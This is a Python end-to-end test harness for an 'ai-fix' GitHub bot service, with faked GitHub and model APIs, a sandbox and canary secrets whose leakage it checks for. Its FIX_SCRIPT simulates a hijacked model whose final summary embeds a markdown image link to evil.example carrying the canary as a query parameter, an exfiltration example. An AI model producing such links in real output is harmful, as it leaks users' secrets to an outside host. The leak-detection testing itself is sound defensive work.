"""The world an end-to-end test runs in: a real `ai-fix serve` process on loopback, GitHub faked at
the HTTP level (served on loopback, every request checked against GitHub's OpenAPI), the models faked
by a Messages API and a Chat Completions server on loopback (one script for both), a bare git repository on disk as the remote, and the real
bubblewrap sandbox running the sample repository's own tests.

Every secret the service holds is a canary; `leaks()` looks for them in everything sent out.
"""

from __future__ import annotations

import base64
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.parse
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

from bot.commands.demo import make_repo, sample
from bot.model.base import ModelRequest
from bot.model.scripted import ScriptedModel, Turn, call, turn
from tests.support.chat_api import FakeChatAPI, serve_chat_api
from tests.support.fake_pulls import PullsGitHub
from tests.support.model import FakeMessagesAPI, FakeModelAPI, serve_fake_api
from tests.support.runs import CHECK, FIX, PLAN, SAMPLE_CRITERIA
from tests.support.server import serve, wait_for_http
from tests.support.webhooks import INSTALLATION, REPO, deliver, labeled

CANARY = "canary-Zq8Lm2Vx7Rt4"
SECRETS = {
    "AIFIX_WEBHOOK_SECRET": f"whsec-{CANARY}-webhook",
    "AIFIX_ADMIN_TOKEN": f"admin-{CANARY}-token",
    "AIFIX_ANTHROPIC_API_KEY": f"sk-ant-{CANARY}-apikey",
    "AIFIX_OPENAI_API_KEY": f"sk-{CANARY}-openai-key",
    "AIFIX_VIEWER_SECRET": f"viewer-{CANARY}-signing-key",
}
MODEL = "claude-haiku-4-5"
SENDER = "Codertocat"
FINAL = frozenset(
    {"done", "unverified", "failed", "cancelled", "rejected", "needs_clarification", "handed_off", "skipped"}
)


PYTHON = Path(sys.executable)
"""The test run's Python (with pytest), mounted read-only into the sandbox so the checks report each test."""


FIX_SCRIPT = [
    turn("add(2, 3) must be 5: fix add() and run the tests.", PLAN),
    turn("Look at the code first.", call("str_replace_based_edit_tool", command="view", path="calc.py")),
    turn("add() subtracts: use a + b.", FIX, CHECK),
    # A hijacked model trying to leak a secret and fetch an image: both must arrive inert.
    turn(
        "Done.",
        call(
            "finish",
            summary=f"Fixed add(). ![x](https://evil.example/p.png?k={CANARY})",
            risks=["none known"],
            criteria=SAMPLE_CRITERIA,
        ),
    ),
]

JOB_LIMITS = f"""scope:
  allow: ["**"]
budget:
  max_steps: 6
  max_cost_usd: 1
  max_wall_minutes: 5
  max_files_changed: 3
  max_lines_changed: 40
model:
  name: {MODEL}
  small: {MODEL}
"""
"""The end of a `.github/ai-fix.yml` for job tests that write their own checks and setup: scope, budget, model."""


def sees(text: str, reply: Turn) -> Callable[[ModelRequest], Turn]:
    """A turn that first checks the model's context holds `text` (feedback, review comments, a digest, a hunk)."""

    def answer(request: ModelRequest) -> Turn:
        context = request.system + str(request.messages)
        assert text in context, f"{text!r} is not in the model's context"
        return reply

    return answer


def config(max_steps: int = 5, model: str = MODEL) -> str:
    return (
        f"checks:\n  - name: tests\n    run: env PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 {PYTHON} -m pytest -q tests\n    timeout: 60\n"
        'scope:\n  allow: ["**"]\n  deny: []\n'
        f"budget:\n  max_steps: {max_steps}\n  max_cost_usd: 1\n  max_wall_minutes: 5\n  max_files_changed: 3\n"
        "  max_lines_changed: 40\n  max_retries_same_failure: 2\n"
        f"model:\n  name: {model}\n  small: {model}\n"
    )


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class World:
    root: Path
    github: PullsGitHub
    model_api: FakeMessagesAPI
    chat_api: FakeChatAPI
    url: str
    bare: Path
    log: Path
    client: httpx.Client = field(init=False)

    def __post_init__(self) -> None:
        self.client = httpx.Client(base_url=self.url, timeout=10)

    # ---- driving it ------------------------------------------------------------------------

    def script(self, turns: list[Turn]) -> None:
        self.model_api.scripted = self.chat_api.scripted = ScriptedModel(turns)

    def send(self, event: str, payload: dict[str, Any], *, delivery: str | None = None) -> httpx.Response:
        payload["repository"].update(clone_url=f"file://{self.bare}", default_branch="main")
        response = deliver(self.client, event, payload, delivery=delivery, secret=SECRETS["AIFIX_WEBHOOK_SECRET"])
        assert response.status_code in (200, 202), response.text
        return response

    def tasks(self) -> list[dict[str, Any]]:
        response = self.client.get("/tasks", headers={"Authorization": f"Bearer {SECRETS['AIFIX_ADMIN_TOKEN']}"})
        return list(response.json()["tasks"])

    def wait(self, job_id: int, timeout: float = 90, *, until: frozenset[str] = FINAL) -> dict[str, Any]:
        """The task once its status is one of `until` (by default: once it has ended)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            task = next((t for t in self.tasks() if t["id"] == job_id), None)
            if task and task["status"] in until:
                return task
            time.sleep(0.1)
        raise AssertionError(f"job {job_id} did not finish in {timeout} s; server log:\n{self.log.read_text()[-6000:]}")

    def run(self, event: str, payload: dict[str, Any]) -> dict[str, Any]:
        job_id = self.send(event, payload).json()["job_id"]
        return self.wait(job_id)

    # ---- looking at it ---------------------------------------------------------------------

    def git(self, *args: str) -> str:
        return subprocess.run(
            ["git", f"--git-dir={self.bare}", *args], capture_output=True, text=True, check=True
        ).stdout

    def pull(self, number: int) -> dict[str, Any]:
        return self.github.pulls[(REPO, number)]

    def labelled(self, number: int, title: str, body: str, repo: str = REPO) -> dict[str, Any]:
        """An issue by SENDER labelled `ai-fix` on the fake GitHub, and the `issues.labeled` delivery for it."""
        self.github.add_issue(repo, number, title=title, body=body, author=SENDER, labels=("ai-fix",))
        payload = labeled(number, sender=SENDER)
        payload["issue"].update(title=title, body=body)
        owner, name = repo.split("/")
        payload["repository"].update(full_name=repo, name=name)
        payload["repository"]["owner"].update(login=owner)
        return payload

    def assert_clean(self) -> None:
        """Nothing sent broke GitHub's schema or auth rules, and no canary secret went out."""
        assert self.github.violations == [], (
            f"requests that break GitHub's schema or auth rules: {self.github.violations}"
        )
        assert self.leaks() == [], f"a canary secret reached the fake GitHub or the fake model: {self.leaks()}"

    def leaks(self) -> list[str]:
        return leaks(self.github, self.model_api, self.chat_api)


def sent(github: PullsGitHub, *model_apis: FakeModelAPI) -> list[str]:
    """Everything sent to the fake GitHub (paths, queries, bodies) and to the fake models, as text."""
    out = [f"{c.path} {json.dumps(c.query)} {json.dumps(c.json)}" for c in github.calls]
    return out + [json.dumps(c) for c in github.graphql_calls] + [b for api in model_apis for b in api.bodies]


def secrets_in(texts: list[str], github: PullsGitHub) -> list[str]:
    """Secrets (whole, 8-character pieces, base64, URL-encoded) found in `texts`."""
    key_lines = [line for line in github.private_key_pem.splitlines() if "PRIVATE KEY" not in line]
    values = [*SECRETS.values(), *key_lines, *github.tokens]  # tokens: every installation token minted
    forms = {CANARY}
    for v in values:
        forms.update({v, base64.b64encode(v.encode()).decode().rstrip("="), urllib.parse.quote(v, safe="")})
        forms.update(v[i : i + 8] for i in range(0, len(v) - 8, 4))
    forms = {f for f in forms if len(f) >= 8 and f != "sk-ant-c"}
    return sorted({f for text in texts for f in forms if f in text})


def leaks(github: PullsGitHub, *model_apis: FakeModelAPI) -> list[str]:
    """Secrets found in anything sent out (headers aside)."""
    return secrets_in(sent(github, *model_apis), github)


def make_remote(root: Path, model: str = MODEL, extra_config: str = "", **changes: str) -> Path:
    """The sample repository (its own config naming `model`, plus `extra_config`; a secret in `.env`; `changes` on
    top) pushed to a bare repository on disk."""
    files, _issue = sample()
    files[".github/ai-fix.yml"] = config(model=model) + extra_config
    files[".env"] = f"DEPLOY_TOKEN={CANARY}-in-the-repo\n"
    repo = make_repo(root / "origin", {**files, **changes})
    bare = root / "remote.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(bare)], check=True)
    return bare


def make_github(bare: Path, app_id: int, kind: type[PullsGitHub] = PullsGitHub) -> PullsGitHub:
    github = kind(app_id=app_id)
    github.installations[INSTALLATION] = [REPO]
    github.permissions[(REPO, SENDER)] = "admin"
    github.git_dirs[REPO] = bare
    return github


def service_env(root: Path, github: PullsGitHub, github_url: str, model_url: str, chat_url: str = "") -> dict[str, str]:
    """The service's settings, as `ai-fix serve` reads them from the environment (`chat_url`: the Chat Completions fake)."""
    return {
        **SECRETS,
        "AIFIX_APP_ID": str(github.app_id),
        "AIFIX_PRIVATE_KEY": github.private_key_pem,
        "AIFIX_GITHUB_API_URL": github_url,
        "AIFIX_ANTHROPIC_BASE_URL": model_url,
        "AIFIX_OPENAI_BASE_URL": chat_url or "http://127.0.0.1:9/v1",
        "AIFIX_DATABASE_URL": f"sqlite:///{root / 'ai-fix.db'}",
        "AIFIX_PIPELINE": "bot.commands.toolkit:delivery_pipeline",
        "AIFIX_SANDBOX": "bwrap",
        "AIFIX_SANDBOX_RO_PATHS": json.dumps(
            sorted({sys.prefix, sys.base_prefix, str(Path(sys.executable).resolve().parent.parent)})
        ),
        "AIFIX_WORK_DIR": str(root / "work"),
        "AIFIX_WORKERS": "1",
    }


def start_world(
    root: Path,
    stack: ExitStack,
    *,
    model: str = MODEL,
    public: bool = False,
    extra_config: str = "",
    github: type[PullsGitHub] = PullsGitHub,
    remote: Path | None = None,
    env: dict[str, str] | None = None,
) -> World:
    """`model`: the model the sample repository's `.github/ai-fix.yml` names (both `name` and `small`), with
    `extra_config` appended; `public`: the service knows its own address (AIFIX_PUBLIC_URL), so it posts signed
    run-viewer links; `github`: the fake GitHub's class (`tests.support.fake_ci.CiGitHub` adds the project's CI);
    `remote`: a bare repository to serve as REPO instead of the sample's; `env`: more of the service's environment."""
    bare = remote or make_remote(root, model, extra_config)
    fake = make_github(bare, app_id=4343, kind=github)
    github_url = stack.enter_context(serve(fake.asgi()))
    fake.served_at = github_url + "/"

    model_api, model_url = stack.enter_context(serve_fake_api(ScriptedModel([])))
    chat_api, chat_url = stack.enter_context(serve_chat_api(ScriptedModel([])))

    port = free_port()
    log = root / "serve.log"
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("AIFIX_")},
        **service_env(root, fake, github_url + "/", model_url, chat_url),
        **({"AIFIX_PUBLIC_URL": f"http://127.0.0.1:{port}"} if public else {}),
        **(env or {}),
    }
    command = [str(Path(sys.executable).with_name("ai-fix")), "serve", "--host", "127.0.0.1", "--port", str(port)]
    with log.open("wb") as out:
        process = subprocess.Popen(command, env=env, stdout=out, stderr=subprocess.STDOUT, cwd=root)
    stack.callback(_stop, process)
    url = f"http://127.0.0.1:{port}"
    # Importing the SDKs alone takes 10 s of wall time on a loaded 2-core machine.
    wait_for_http(f"{url}/healthz", process, log, timeout=120)
    world = World(root, fake, model_api, chat_api, url, bare, log)
    stack.callback(world.client.close)
    return world


def _stop(process: subprocess.Popen[bytes]) -> None:
    process.send_signal(signal.SIGTERM)
    try:
        process.wait(timeout=20)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()
